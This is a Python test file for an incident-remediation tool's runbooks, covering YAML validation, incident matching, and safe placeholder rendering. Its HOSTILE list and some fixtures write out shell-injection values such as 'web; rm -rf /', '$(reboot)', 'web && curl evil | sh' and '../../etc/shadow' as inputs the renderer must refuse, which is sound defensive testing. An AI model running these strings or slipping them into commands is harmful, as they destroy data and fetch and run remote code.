"""Runbook loading and validation, matching and ranking, the rate-limit decision and safe parameter rendering."""

from __future__ import annotations

import textwrap
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from erdu_tasks.fixer.actions import describe_step, get_action, prepare_step
from erdu_tasks.fixer.actions.base import SAFE_VALUE, render_params
from erdu_tasks.fixer.urlguard import UrlPolicy
from erdu_tasks.errors import ConfigError, PermanentError
from erdu_tasks.model import Incident, Severity, Status
from erdu_tasks.fixer.runbooks import (
    DEFAULT_RUNBOOKS_DIR,
    Approval,
    MatchInput,
    Runbook,
    RunbookSet,
    Step,
    check_runbooks,
    placeholder_values,
    rank,
)

NOW = datetime(2025, 6, 1, 12, 0, tzinfo=timezone.utc)

GOOD = """
runbooks:
  - name: restart-web
    description: restart web by argv
    match:
      services: [web]
      title_pattern: "(?i)health ?check failed"
    diagnosis_hint: the process died
    actions:
      - action: restart
        params: {argv: ["/opt/bin/restart", "{service}", "--on={host}"]}
        timeout: 10
    validation:
      check: http
      url: "http://{host}:8080/health"
      expect_status: 200
      max_latency: 1.5
    rollback:
      - action: noop
    approval: required
    limits: {max_runs: 2, per_seconds: 600}
  - name: clear-web-cache
    match: {service: web, tags: [cache, stale]}
    actions:
      - action: clear_cache
        params: {pattern: "cache:{service}:*"}
    validation:
      check: log_absent
      path: /var/log/web.log
      pattern: "stale (entry|key) \\\\d{2,4}"
      window: 30
"""


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.write_text(textwrap.dedent(text))
    return path


def load_problems(tmp_path: Path, text: str) -> str:
    write(tmp_path, "rb.yaml", text)
    with pytest.raises(ConfigError) as info:
        RunbookSet.load(tmp_path)
    return str(info.value)


def minimal(**overrides: str) -> str:
    """A one-runbook file with any top-level field replaced by a YAML fragment."""
    fields = {
        "name": "rb",
        "match": "{services: [web]}",
        "actions": "[{action: noop}]",
    }
    fields.update(overrides)
    body = "\n".join(f"    {k}: {v}" for k, v in fields.items() if v is not None)
    return "runbooks:\n  - " + body.lstrip() + "\n"


# --------------------------------------------------------------------------- loading


def test_it_loads_a_directory_of_runbooks_with_every_field(tmp_path: Path) -> None:
    write(tmp_path, "web.yaml", GOOD)
    write(tmp_path, "single.yml", "name: single\nmatch: {fingerprint: abc123}\nactions: [{action: noop}]\n")
    write(tmp_path, "notes.txt", "not a runbook")
    rbs = RunbookSet.load(tmp_path)
    assert [rb.name for rb in rbs.runbooks] == ["single", "restart-web", "clear-web-cache"]
    web = rbs.get("restart-web")
    assert web is not None
    assert web.approval is Approval.REQUIRED
    assert web.limits.max_runs == 2 and web.limits.per_seconds == 600
    assert web.actions[0] == Step(action="restart", params={"argv": ["/opt/bin/restart", "{service}", "--on={host}"]},
                                  timeout=10)
    assert web.validation is not None and web.validation.check == "http"
    assert web.rollback[0].action == "noop"
    assert rbs.sources["restart-web"].endswith("web.yaml:3")
    cache = rbs.get("clear-web-cache")
    assert cache is not None and cache.validation.pattern == r"stale (entry|key) \d{2,4}"
    assert cache.approval is Approval.NONE and cache.limits.max_runs == 3 and not cache.dry_run


def test_the_shipped_runbooks_are_valid_and_only_observe_unless_dry_run() -> None:
    assert check_runbooks() == []
    rbs = RunbookSet.load()
    assert len(rbs.runbooks) >= 2
    # A shipped runbook may act for real only if all it does is record (noop) and verify.
    assert all(rb.dry_run or {a.action for a in rb.actions} == {"noop"} for rb in rbs.runbooks)
    assert {a.action for rb in rbs.runbooks for a in rb.actions} >= {"restart", "clear_cache"}
    assert rbs.path == DEFAULT_RUNBOOKS_DIR


def test_an_empty_directory_is_an_empty_set_and_a_missing_one_is_an_error(tmp_path: Path) -> None:
    assert RunbookSet.load(tmp_path).runbooks == ()
    with pytest.raises(ConfigError, match="does not exist"):
        RunbookSet.load(tmp_path / "nope")


def test_it_notices_when_files_change(tmp_path: Path) -> None:
    write(tmp_path, "a.yaml", minimal())
    rbs = RunbookSet.load(tmp_path)
    assert not rbs.changed()
    write(tmp_path, "a.yaml", minimal(name="renamed-and-longer"))
    assert rbs.changed()


@pytest.mark.parametrize(
    ("override", "expected"),
    [
        ({"actions": "[{action: restartt, params: {argv: [x]}}]"},
         "rb.yaml:4: runbook 'rb': actions[0].action: unknown action 'restartt' (known: celery_control, "
         "celery_queue, clear_cache, http_call, noop, restart, run_command, scale)"),
        ({"actions": "[{action: run_command, params: {argv: [echo, '{message}']}}]"},
         "rb.yaml:4: runbook 'rb': actions[0].params.argv[1]: placeholder {message} is not allowed; "
         "only {service} and {host} may be used"),
        ({"actions": "[{action: run_command, params: {argv: [echo, '{service!r}']}}]"},
         "actions[0].params.argv[1]: placeholder {service!r} is not allowed"),
        ({"actions": "[{action: run_command, params: {argv: ['{service.__class__}']}}]"},
         "actions[0].params.argv[0]: placeholder {service.__class__} is not allowed"),
        ({"actions": "[{action: run_command, params: {argv: ['{service']}}]"},
         "actions[0].params.argv[0]: malformed braces"),
        ({"match": "{services: [web], title_pattern: 'db (down'}"},
         "rb.yaml:3: runbook 'rb': match.title_pattern: invalid regular expression 'db (down': missing )"),
        ({"match": "{services: [web], title_pattern: '(a)\\1'}"},
         "match.title_pattern: invalid regular expression"),
        ({"approval": "maybe"},
         "rb.yaml:5: runbook 'rb': approval: Input should be 'none' or 'required'"),
        ({"aproval": "none"}, "rb.yaml:5: runbook 'rb': aproval: unknown field"),
        ({"actions": "[]"}, "actions: List should have at least 1 item"),
        ({"actions": None}, "actions: required field is missing"),
        ({"match": "{severities: [P1]}"}, "match: a matcher needs at least one of"),
        ({"match": "{services: [web], severities: [P9]}"}, "match.severities[0]: Input should be"),
        ({"name": "'has spaces'"}, "runbook 'has spaces': name: String should match pattern"),
        ({"limits": "{max_runs: 0}"}, "limits.max_runs: Input should be greater than or equal to 1"),
        ({"validation": "{check: htp}"}, "validation: Input tag 'htp' found using 'check' does not match"),
        ({"validation": "{check: http, url: 'ftp://x/'}"},
         "validation.url: url must start with http:// or https://"),
        ({"validation": "{check: http, url: 'http://{hostname}/'}"},
         "validation.url: placeholder {hostname} is not allowed"),
        ({"validation": "{check: log_absent, path: /x, pattern: 'a(('}"},
         "validation.pattern: invalid regular expression"),
        ({"validation": "{check: process}"}, "validation: give exactly one of name, pidfile, cmdline_contains"),
        ({"actions": "[{action: restart, params: {systemd: a, docker: b}}]"},
         "actions[0].params: give exactly one of systemd, supervisor, docker, argv (got systemd, docker)"),
        ({"actions": "[{action: run_command, params: {argvv: [x]}}]"}, "actions[0].params.argvv: unknown field"),
        ({"actions": "[{action: clear_cache, params: {pattern: '*'}}]"},
         "actions[0].params.pattern: pattern '*' is too broad"),
        ({"actions": "[{action: noop, timeout: 0}]"}, "actions[0].timeout: Input should be greater than 0"),
        ({"rollback": "[{action: nope}]"}, "rollback[0].action: unknown action 'nope'"),
    ],
)
def test_each_validation_error_names_file_line_runbook_and_field(tmp_path: Path, override: dict, expected: str) -> None:
    message = load_problems(tmp_path, minimal(**override))
    assert expected in message
    assert str(tmp_path / "rb.yaml") in message


def test_a_yaml_syntax_error_names_file_line_and_column(tmp_path: Path) -> None:
    message = load_problems(tmp_path, "runbooks:\n  - name: x\n    match: {services: [web\n")
    assert f"{tmp_path / 'rb.yaml'}:4:1: YAML error: expected ',' or ']'" in message


def test_a_duplicate_key_is_an_error_not_a_silent_override(tmp_path: Path) -> None:
    message = load_problems(tmp_path, minimal() + "    actions: [{action: restart, params: {docker: x}}]\n")
    assert "rb.yaml:5:5: YAML error: duplicate key 'actions'" in message


def test_a_duplicate_runbook_name_across_files_is_an_error(tmp_path: Path) -> None:
    write(tmp_path, "a.yaml", minimal())
    write(tmp_path, "b.yaml", minimal())
    with pytest.raises(ConfigError) as info:
        RunbookSet.load(tmp_path)
    assert f"b.yaml:2: runbook 'rb': name: duplicate name, first defined at {tmp_path / 'a.yaml'}:2" in str(info.value)


def test_every_problem_in_every_file_is_listed_at_once(tmp_path: Path) -> None:
    write(tmp_path, "a.yaml", minimal(approval="sometimes", actions="[{action: zap}]"))
    write(tmp_path, "b.yaml", "runbooks: [\n")
    write(tmp_path, "c.yaml", minimal(name="c", match="{services: [w], title_pattern: '['}"))
    problems = check_runbooks(tmp_path)
    assert len(problems) == 4, problems
    joined = "\n".join(problems)
    for fragment in ("a.yaml:4: runbook 'rb': actions[0].action: unknown action 'zap'",
                     "a.yaml:5: runbook 'rb': approval:", "b.yaml:2:1: YAML error",
                     "c.yaml:3: runbook 'c': match.title_pattern: invalid regular expression"):
        assert fragment in joined
    with pytest.raises(ConfigError, match=r"^4 problem\(s\) in runbooks at"):
        RunbookSet.load(tmp_path)


def test_a_file_must_hold_runbooks_only(tmp_path: Path) -> None:
    assert "unknown top-level key(s) extra" in load_problems(tmp_path, minimal() + "extra: 1\n")
    assert "expected a mapping" in load_problems(tmp_path, "- just\n- a list\n")


def test_literal_braces_are_written_doubled(tmp_path: Path) -> None:
    write(tmp_path, "a.yaml", minimal(actions="""[{action: run_command, params: {argv: [python3, -c, "print({{1: 2}})"]}}]"""))
    step = RunbookSet.load(tmp_path).runbooks[0].actions[0]
    assert describe_step(step, {}) == "run_command: python3 -c 'print({1: 2})'"


# --------------------------------------------------------------------------- matching and ranking


def inc(**kw: object) -> MatchInput:
    base = dict(fingerprint="fp-1", service="web", tags=("cache", "stale", "api"), severity="P2",
                title="Health check failed on web-1", host="web-1")
    base.update(kw)
    return MatchInput(**base)  # type: ignore[arg-type]


def rb(name: str = "rb", **match: object) -> Runbook:
    return Runbook.model_validate({"name": name, "match": match, "actions": [{"action": "noop"}]})


@pytest.mark.parametrize(
    ("match", "incident", "hit"),
    [
        ({"fingerprints": ["fp-1", "fp-2"]}, {}, True),
        ({"fingerprint": "fp-2"}, {}, False),
        ({"services": ["web", "api"]}, {}, True),
        ({"service": "api"}, {}, False),
        ({"service": "web"}, {"service": None}, False),
        ({"hosts": ["web-1"]}, {}, True),
        ({"hosts": ["web-2"]}, {}, False),
        ({"tags": ["cache", "stale"]}, {}, True),
        ({"tags": ["cache", "db"]}, {}, False),
        ({"service": "web", "severities": ["P1", "P2"]}, {}, True),
        ({"service": "web", "severity": "P1"}, {}, False),
        ({"title_pattern": "(?i)HEALTH ?CHECK failed"}, {}, True),
        ({"title_pattern": "^failed"}, {}, False),
        ({"service": "web", "title_pattern": "timeout"}, {}, False),
        ({"service": "web", "tags": ["api"], "fingerprints": ["fp-1"], "title_pattern": "web-\\d"}, {}, True),
    ],
)
def test_a_matcher_needs_every_given_criterion(match: dict, incident: dict, hit: bool) -> None:
    assert rb(**match).match.matches(inc(**incident)) is hit


def test_matching_returns_fitting_runbooks_best_first(tmp_path: Path) -> None:
    write(tmp_path, "a.yaml", """
        runbooks:
          - {name: by-tag, match: {tags: [cache]}, actions: [{action: noop}]}
          - {name: by-service, match: {services: [web]}, actions: [{action: noop}]}
          - {name: by-fingerprint, match: {fingerprints: [fp-1]}, actions: [{action: noop}]}
          - {name: other, match: {services: [db]}, actions: [{action: noop}]}
        """)
    rbs = RunbookSet.load(tmp_path)
    assert [r.name for r in rbs.match(inc())] == ["by-fingerprint", "by-service", "by-tag"]
    rates = {"by-tag": 0.95, "by-fingerprint": 0.2}
    assert [r.name for r in rbs.match(inc(), rates)] == ["by-tag", "by-service", "by-fingerprint"]
    assert rbs.match(inc(service="db", tags=(), fingerprint="x"))[0].name == "other"
    assert rbs.match(inc(service="nothing", tags=(), fingerprint="x")) == []


def test_ranking_breaks_ties_by_file_order() -> None:
    a, b = rb("a", service="web"), rb("b", service="web")
    assert [r.name for r in rank([a, b])] == ["a", "b"]
    assert [r.name for r in rank([a, b], {"b": 0.51})] == ["b", "a"]


def test_match_input_and_placeholder_values_come_from_an_incident() -> None:
    incident = Incident(id="INC-1", fingerprint="fp", title="t", description="d", severity=Severity.P1,
                        status=Status.FIXING, source="probe", service="web", host="h1", tags=["x"],
                        labels={"evil": "$(rm -rf /)"})
    assert MatchInput.from_incident(incident) == MatchInput("fp", "web", ("x",), "P1", "t", "h1")
    assert placeholder_values(incident) == {"host": "h1", "service": "web"}


# --------------------------------------------------------------------------- rate limit


def limited(max_runs: int = 3, per: float = 3600) -> Runbook:
    return Runbook.model_validate({"name": "r", "match": {"service": "web"}, "actions": [{"action": "noop"}],
                                   "limits": {"max_runs": max_runs, "per_seconds": per}})


# --------------------------------------------------------------------------- rendering


def test_render_params_fills_service_and_host_everywhere() -> None:
    params = {"argv": ["restart", "{service}", "--host={host}"], "nested": {"k": ["{service}.service"]},
              "n": 3, "flag": True, "none": None, "lit": "{{not a placeholder}}"}
    out = render_params(params, {"service": "web-1", "host": "db.internal:5432"})
    assert out == {"argv": ["restart", "web-1", "--host=db.internal:5432"], "nested": {"k": ["web-1.service"]},
                   "n": 3, "flag": True, "none": None, "lit": "{not a placeholder}"}


def test_values_under_a_url_key_are_percent_encoded() -> None:
    out = render_params({"url": "http://admin.internal/svc/{service}?h={host}"},
                        {"host": "user@evil.example", "service": "a:b"})
    assert out == {"url": "http://admin.internal/svc/a%3Ab?h=user%40evil.example"}


def test_a_host_from_the_incident_in_a_url_authority_must_be_allowlisted() -> None:
    with pytest.raises(PermanentError, match="userinfo"):
        render_params({"url": "http://{host}/svc"}, {"host": "user@evil.example"})
    with pytest.raises(PermanentError, match="not allowlisted"):
        render_params({"url": "http://{host}:8080/svc"}, {"host": "web-1.internal"})
    allowed = UrlPolicy.build(["web-1.internal"])
    assert render_params({"url": "http://{host}:8080/svc"}, {"host": "Web-1.Internal"}, policy=allowed) == {
        "url": "http://Web-1.Internal:8080/svc"}


def test_literal_keys_are_not_templated() -> None:
    out = render_params({"pattern": r"x{2,3}", "path": "/var/log/{service}.log"}, {"service": "web"},
                        literal_keys={"pattern"})
    assert out == {"pattern": r"x{2,3}", "path": "/var/log/web.log"}


HOSTILE = [
    "web; rm -rf /",
    "; rm -rf /",
    "$(reboot)",
    "`id`",
    "web`touch /tmp/pwned`",
    "web && curl evil | sh",
    "web|nc",
    "web > /etc/passwd",
    "web\nrm -rf /",
    "web rm",
    "'web'",
    '"web"',
    "${IFS}",
    "../../etc/shadow",
    "..",
    "-rf",
    "--help",
    "web/../../x",
    "web\x00",
    "wéb",
    "",
    "x" * 129,
    "{host}",
    "*",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_render_params_refuses_hostile_values(value: str) -> None:
    with pytest.raises(PermanentError, match="refused service value|is not set"):
        render_params({"argv": ["systemctl", "restart", "{service}"]}, {"service": value})


@pytest.mark.parametrize("value", HOSTILE)
def test_a_step_with_a_hostile_value_is_refused_before_it_runs(value: str) -> None:
    step = Step(action="run_command", params={"argv": ["echo", "{service}"]})
    with pytest.raises(PermanentError):
        prepare_step(step, {"service": value})
    assert "refused" in describe_step(step, {"service": value})


def test_a_missing_field_is_refused_but_unused_hostile_fields_do_not_matter() -> None:
    with pytest.raises(PermanentError, match=r"placeholder \{host\} needs the incident's host"):
        render_params({"argv": ["x", "{host}"]}, {"service": "web"})
    assert render_params({"argv": ["x", "{service}"]}, {"service": "web", "host": "$(id)"}) == {"argv": ["x", "web"]}


def test_only_service_and_host_can_be_rendered_whatever_the_caller_passes() -> None:
    with pytest.raises(PermanentError, match=r"placeholder \{message\} is not allowed"):
        render_params({"argv": ["{message}"]}, {"message": "hello"})


@given(st.text(max_size=200))
def test_whatever_the_value_it_is_refused_or_passed_through_unchanged_and_safe(value: str) -> None:
    try:
        out = render_params({"argv": ["cmd", "{service}"]}, {"service": value})
    except PermanentError:
        return
    assert out["argv"] == ["cmd", value]
    assert SAFE_VALUE.fullmatch(value) and not value.startswith("-") and ".." not in value


def test_registry_lookup() -> None:
    assert get_action("noop").NAME == "noop"
    with pytest.raises(PermanentError, match="unknown action 'zap'"):
        get_action("zap")
